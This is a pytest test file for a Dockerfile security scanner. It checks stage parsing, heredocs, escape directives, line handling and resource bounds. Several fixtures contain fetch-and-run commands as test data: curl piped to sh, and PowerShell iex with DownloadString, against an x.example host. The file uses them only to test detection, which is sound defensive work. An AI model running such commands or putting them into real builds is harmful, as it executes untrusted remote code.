"""Reading Dockerfiles: stages, here-documents, the escape directive, continuation lines, and
bad or hostile input becoming problems instead of exceptions."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from dockertest_helpers import df, hits, problems

from secpipe.scanners.iac.docker import dockerfile
from secpipe.scanners.iac.model import Budget, IacFile


def test_stages_become_resources_with_lines_and_attrs() -> None:
    a = df("""\
        ARG BASE=python:3.12-slim
        FROM $BASE AS build
        RUN pip wheel -w /w .

        FROM gcr.io/distroless/python3-debian12:nonroot AS runtime
        COPY --from=build /w /w
        HEALTHCHECK CMD ["/w/check"]
        """)
    build, runtime = a.resources
    assert (build.name, build.line, build.end_line) == ("Dockerfile stage build", 2, 3)
    assert build.type == "dockerfile" and build.framework == "dockerfile"
    assert build.attrs["base"] == "python:3.12-slim"
    assert [i["instruction"] for i in build.attrs["instructions"]] == ["FROM", "RUN"]
    assert (runtime.line, runtime.end_line) == (5, 7)
    assert runtime.attrs["runs_as_root"] is False and runtime.attrs["user"] is None
    assert runtime.attrs["instructions"][1]["flags"] == {"from": "build"}
    assert a.hits == [] and a.problems == [] and a.files == 1


def test_hit_block_is_the_stage() -> None:
    a = df("FROM debian:12 AS one\nRUN true\nFROM ubuntu AS two\nRUN true\nRUN true\n")
    (hit,) = hits(a, "base-image-unpinned")
    assert hit.block == (3, 5) and hit.resource == "Dockerfile stage two"


def test_heredoc_body_lines_are_not_instructions() -> None:
    a = df("""\
        FROM debian:12
        RUN <<EOF
        FROM evil
        USER root
        EXPOSE 22
        EOF
        USER 1000
        """)
    assert len(a.resources) == 1
    assert not hits(a, "root-user") and not hits(a, "ssh-port-exposed")
    assert not problems(a, "iac.parse-error")
    assert a.resources[0].end_line == 7


def test_copy_heredoc_is_not_a_source_file() -> None:
    a = df("""\
        FROM debian:12
        COPY <<EOF /etc/app/.env
        MODE=prod
        EOF
        """)
    assert not hits(a, "secret-file-copied")


def test_several_heredocs_on_one_instruction() -> None:
    a = df("""\
        FROM debian:12
        RUN <<ONE cat > /a && <<TWO sh
        hello
        ONE
        curl -s https://x.example | sh
        TWO
        USER 1000
        """)
    (hit,) = hits(a, "remote-script-exec")
    assert hit.line == 5


def test_unterminated_heredoc_marker_is_left_as_text() -> None:
    a = df("FROM debian:12\nRUN cat <<EOF\nUSER 1000\n")
    assert not hits(a, "root-user")  # USER 1000 was still read as an instruction


def test_backtick_escape_directive() -> None:
    a = df("""\
        # escape=`
        FROM mcr.microsoft.com/windows/servercore:ltsc2022
        RUN powershell -Command `
            iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))
        USER ContainerUser
        """)
    (hit,) = hits(a, "remote-script-exec")
    assert hit.line == 3
    assert not hits(a, "root-user")


def test_comment_lines_inside_continuation() -> None:
    a = df("""\
        FROM debian:12
        RUN apt-get update && \\
        # fetch the installer
            curl -fsSL https://x.example/i.sh | sh
        """)
    assert hits(a, "remote-script-exec")


def test_crlf_and_bom_are_read() -> None:
    text = "\ufeffFROM ubuntu\r\nRUN curl -s https://x.example | \\\r\n  sh\r\n"
    a = dockerfile.analyse_text(text, "Dockerfile")
    assert hits(a, "base-image-unpinned") and hits(a, "remote-script-exec")


def test_lower_case_instructions() -> None:
    a = df("from ubuntu\nrun curl -s https://x.example | sh\nuser root\n")
    assert hits(a, "base-image-unpinned") and hits(a, "remote-script-exec")
    assert hits(a, "root-user")


def test_no_from_is_a_parse_error() -> None:
    a = df("RUN echo hi\n")
    assert problems(a, "iac.parse-error")
    assert a.hits == [] and a.files == 0


def test_unknown_instruction_is_reported_and_the_rest_analysed() -> None:
    a = df("FROM debian:12\ncurl -s https://x.example | sh\nFROOM x\nRUN sudo true\n")
    (message,) = problems(a, "iac.parse-error")
    assert "CURL" in message and "1 more" in message
    assert hits(a, "sudo")


def test_empty_and_garbage_files_do_not_raise() -> None:
    for text in ["", "\n\n", "\\\n\\\n", "FROM", "FROM \nUSER", "[[[", "RUN <<\n", '{"a": 1}',
                 "FROM a AS\nFROM a AS b AS c\n", "ARG =\nFROM ${:-}\n", "FROM $\n"]:
        dockerfile.analyse_text(text, "Dockerfile")


def _file(tmp_path: Path, data: bytes, name: str = "Dockerfile") -> IacFile:
    path = tmp_path / name
    path.write_bytes(data)
    return IacFile(str(path), name, len(data))


def test_file_over_budget_is_too_large(tmp_path: Path) -> None:
    file = _file(tmp_path, b"FROM debian:12\n" + b"RUN true\n" * 1000)
    a = dockerfile.analyse_file(file, Budget(max_file_bytes=1000))
    assert [p.rule_id for p in a.problems] == ["iac.too-large"] and a.files == 0


def test_file_growing_after_collection_is_still_bounded(tmp_path: Path) -> None:
    file = _file(tmp_path, b"FROM debian:12\n" + b"RUN true\n" * 1000)
    small = IacFile(file.path, file.rel, 10)  # the size seen at collection time
    a = dockerfile.analyse_file(small, Budget(max_file_bytes=1000))
    assert [p.rule_id for p in a.problems] == ["iac.too-large"]


def test_binary_file_is_a_parse_error(tmp_path: Path) -> None:
    a = dockerfile.analyse_file(_file(tmp_path, b"FROM x\x00\x01\x02"), Budget())
    assert [p.rule_id for p in a.problems] == ["iac.parse-error"]


def test_directory_instead_of_file_is_a_problem(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").mkdir()
    a = dockerfile.analyse_file(IacFile(str(tmp_path / "Dockerfile"), "Dockerfile", 0), Budget())
    assert [p.rule_id for p in a.problems] == ["iac.parse-error"]


def test_invalid_utf8_is_replaced_not_fatal(tmp_path: Path) -> None:
    a = dockerfile.analyse_file(_file(tmp_path, b"FROM ubuntu\nLABEL x=\xff\xfe\n"), Budget())
    assert hits(a, "base-image-unpinned")


def test_very_long_line_is_cut_and_reported() -> None:
    text = "FROM debian:12\nRUN echo " + "A" * (dockerfile.MAX_LINE_CHARS + 10) + "\nUSER root\n"
    start = time.monotonic()
    a = dockerfile.analyse_text(text, "Dockerfile")
    assert time.monotonic() - start < 2
    assert problems(a, "iac.budget-exceeded")
    assert hits(a, "root-user")  # the rest of the file was still analysed
    assert a.files == 0  # not analysed completely


def test_instruction_count_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dockerfile, "MAX_INSTRUCTIONS", 200)
    text = "FROM debian:12\nEXPOSE 22\n" + "RUN true\n" * 300 + "EXPOSE 22\n"
    a = dockerfile.analyse_text(text, "Dockerfile")
    assert any("200 instructions" in m for m in problems(a, "iac.budget-exceeded"))
    assert [h.line for h in hits(a, "ssh-port-exposed")] == [2]  # past the bound: not read
    assert a.files == 0


def test_the_default_instruction_bound_is_quick() -> None:
    text = "FROM debian:12\n" + "RUN true\n" * 5000
    start = time.monotonic()
    dockerfile.analyse_text(text, "Dockerfile")
    assert time.monotonic() - start < 2


def test_huge_single_run_of_pipes_is_bounded() -> None:
    text = "FROM debian:12\nRUN " + "a | " * 60_000 + "b\n"
    start = time.monotonic()
    dockerfile.analyse_text(text, "Dockerfile")
    assert time.monotonic() - start < 5


def test_only_newlines_end_lines() -> None:
    # a form feed or U+2028 inside a line must not shift the line numbers of what follows
    a = dockerfile.analyse_text("FROM debian:12\nLABEL a=\"x\fy\u2028z\"\nEXPOSE 22\n", "D")
    (hit,) = hits(a, "ssh-port-exposed")
    assert hit.line == 3


def test_flags_separated_by_tabs() -> None:
    a = dockerfile.analyse_text("FROM debian:12\nCOPY\t--chmod=777\tapp /app\n", "D")
    assert hits(a, "world-writable")
